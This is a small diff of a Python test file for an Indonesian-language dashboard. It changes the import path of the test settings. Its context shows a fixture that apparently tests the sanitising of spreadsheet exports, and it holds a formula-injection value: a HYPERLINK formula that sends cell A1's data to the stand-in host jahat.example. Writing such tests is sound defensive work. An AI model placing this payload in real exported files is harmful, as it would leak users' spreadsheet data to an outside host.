@@ -27,7 +27,7 @@ from dashboard.factory import create_app
 from dashboard.services import keputusan, paket, presentasi
 from dashboard.services.ekspor import AWALAN_FORMULA
 from dashboard.tools.demo import KATA_SANDI_DEMO
-from tests.conftest import settings_uji
+from tests.support.pengaturan import settings_uji
 
 JAHAT_WILAYAH = {
     "33": '=HYPERLINK("http://jahat.example/?"&A1,"Jawa Tengah")',
